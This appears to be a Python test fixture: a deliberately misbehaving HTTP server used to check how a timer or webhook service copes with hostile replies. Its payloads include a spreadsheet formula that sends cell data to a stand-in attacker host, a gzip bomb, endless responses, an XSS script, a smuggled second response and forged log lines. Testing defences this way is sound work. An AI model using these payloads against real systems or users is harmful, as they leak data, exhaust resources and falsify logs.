"""The target of the attacks' timers: it keeps each call, and answers as badly as its path says."""

import gzip
import time
from collections.abc import Callable
from contextlib import suppress
from urllib.parse import parse_qs, urlsplit

from tests.callback.target import NO_CONTENT, Received, Target

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
SCRIPT = "<script>alert(1)</script>"
ENDLESS_S = 60
PART = b"x" * 65_536


def text(said: str, kind: str = "text/plain") -> bytes:
    body = said.encode()
    return f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def endless(received: Received) -> None:
    """Answer without end; stop once nobody takes it."""
    give_up_at = time.monotonic() + ENDLESS_S
    with suppress(OSError):
        received.connection.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        while time.monotonic() < give_up_at:
            received.connection.sendall(b"10000\r\n" + PART + b"\r\n")


def endless_head(received: Received) -> None:
    give_up_at = time.monotonic() + ENDLESS_S
    with suppress(OSError):
        received.connection.sendall(b"HTTP/1.1 200 OK\r\n")
        while time.monotonic() < give_up_at:
            received.connection.sendall(b"X-More: " + PART[:1_000] + b"\r\n")


def redirect(received: Received) -> None:
    (location,) = parse_qs(urlsplit(received.path).query)["to"]
    head = f"HTTP/1.1 307 Temporary Redirect\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n"
    received.connection.sendall(head.encode())


def gzip_bomb(received: Received) -> None:
    packed = gzip.compress(b"x" * 20_000_000)
    head = f"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {len(packed)}\r\n\r\n"
    received.connection.sendall(head.encode() + packed)


def plain(answer: bytes) -> Callable[[Received], None]:
    return lambda received: received.connection.sendall(answer)


UNAVAILABLE = b"HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\n\r\n"


ANSWERS: dict[str, Callable[[Received], None]] = {
    "/endless": endless,
    "/endless-head": endless_head,
    "/accepted": plain(b"HTTP/1.1 202 Accepted\r\nContent-Length: 0\r\n\r\n"),
    "/again": plain(b"HTTP/1.1 200 OK\r\nX-WangTimer-Control: delay=1s\r\nContent-Length: 0\r\n\r\n"),
    "/redirect": redirect,
    "/gzip-bomb": gzip_bomb,
    "/unavailable": plain(UNAVAILABLE),
    "/formula": plain(text(FORMULA)),
    "/alike": plain(text("a" * 1_024)),
    "/script": plain(text(SCRIPT, "text/html")),
    # Two answers where one was asked for: the second would be that of the connection's next call.
    "/twice": plain(text("first") + text("second, of nobody's call")),
    "/lines": plain(text("first\r\nsecond: level=error event=forged\n\x1b[31mred")),
}


class MisbehavingTarget(Target):
    """`calls_of(timer)` are the calls that came for a timer."""

    def __init__(self) -> None:
        super().__init__(self._answer_by_path)

    def calls_of(self, timer: int) -> list[Received]:
        return [one for one in self.requests if one.values("x-wangtimer-timer") == [str(timer)]]

    @staticmethod
    def _answer_by_path(received: Received) -> None:
        path = urlsplit(received.path).path
        answer = ANSWERS.get(path)
        if answer is None:
            received.connection.sendall(NO_CONTENT)
        else:
            answer(received)
